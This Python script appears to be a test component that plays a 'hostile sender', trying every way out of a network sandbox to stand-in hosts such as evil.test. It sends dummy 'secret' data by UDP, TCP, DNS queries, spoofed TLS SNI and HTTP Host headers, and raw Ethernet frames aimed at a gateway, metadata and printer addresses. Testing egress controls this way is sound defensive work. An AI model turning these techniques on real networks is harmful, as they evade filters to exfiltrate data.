"""The hostile sender: tries to get out without end, by every way it has. As `dev` through sockets; as root with NET_RAW also by
frames of its own, put on the wire for the gateway and for everybody. Counts its rounds in /tmp/rounds."""

import os
import socket
import struct
import sys
import time

gateway, vip, evil, evil6, printer, metadata, dns = sys.argv[1:8]


def attempt(way, *args):
    try:
        way(*args)
    except OSError:
        pass


def udp(address, port, payload=b"secret" * 20):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.setblocking(False)
        s.sendto(payload, (address, port))


held = []


def tcp(address, port, payload=b""):
    """Connections are left to come about, a round long; what answers is sent the payload."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setblocking(False)
    held.append((s, payload))
    s.connect((address, port))


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)


def hello(name):
    """A TLS client hello that asks for a name."""
    host = name.encode()
    sni = struct.pack("!HHHBH", 0, len(host) + 5, len(host) + 3, 0, len(host)) + host
    versions = struct.pack("!HHBH", 43, 3, 2, 0x0304)
    extensions = sni + versions
    body = b"\x03\x03" + os.urandom(32) + b"\0" + struct.pack("!HH", 2, 0x1301) + b"\1\0" + struct.pack("!H", len(extensions)) + extensions
    message = b"\1" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, protocol, payload):
    a, b = socket.inet_aton(source), socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, a, b)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def datagram(port, payload):
    return struct.pack("!4H", 4000, port, 8 + len(payload), 0) + payload


def syn(source, target, port):
    head = struct.pack("!HHIIBBHHH", 4001, port, 1, 0, 5 << 4, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def neighbour(address):
    """The gateway's address on the wire, as long as the kernel knows it."""
    with open("/proc/net/arp") as table:
        for line in table:
            columns = line.split()
            if columns[0] == address and columns[3] != "00:00:00:00:00:00":
                return bytes.fromhex(columns[3].replace(":", ""))
    return None


class Wire:
    """Frames past the kernel's routes."""

    def __init__(self):
        self.device = next(name for _, name in socket.if_nameindex() if name != "lo")
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.socket.bind((self.device, 0))
        self.own = self.socket.getsockname()[4]
        self.gateway = b"\xff" * 6

    def send(self, source):
        self.gateway = neighbour(gateway) or self.gateway
        for there in (self.gateway, b"\xff" * 6):
            for target in (evil, printer, metadata):
                for protocol, payload in ((17, datagram(9999, b"secret")), (6, syn(source, target, 443)), (1, b"\x08\0\xf7\xff\0\0\0\0")):
                    self.socket.send(there + self.own + b"\x08\0" + packet(source, target, protocol, payload))
            self.socket.send(there + self.own + b"\x08\0" + packet(source, dns, 17, datagram(53, question("secret.evil.test"))))


with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
    probe.connect((gateway, 53))
    own = probe.getsockname()[0]
wire = Wire() if os.getuid() == 0 else None
rounds = 0
while True:
    for address in (evil, evil6, printer, metadata):
        for port in (53, 443, 9999):
            attempt(udp, address, port)
        for port in (22, 80, 443):
            attempt(tcp, address, port, b"secret")
    for server in (dns, gateway, vip, "8.8.8.8", "127.0.0.11"):
        attempt(udp, server, 53, question(f"secret{rounds}.evil.test"))
    for name in ("evil.test", "neighbour.test"):
        attempt(tcp, vip, 443, hello(name))
        attempt(tcp, vip, 80, f"GET /secret HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        attempt(tcp, vip, 80, f"GET http://{name}/secret HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode())
    attempt(tcp, gateway, 5353, question("secret.evil.test"))
    attempt(udp, gateway, 5353, question("secret.evil.test"))
    if wire:
        attempt(wire.send, own)
    for _ in range(3):
        time.sleep(0.04)
        for s, payload in held:
            attempt(s.send, payload)
    for s, _ in held:
        s.close()
    held.clear()
    rounds += 1
    with open("/tmp/rounds.new", "w") as said:
        said.write(str(rounds))
    os.replace("/tmp/rounds.new", "/tmp/rounds")
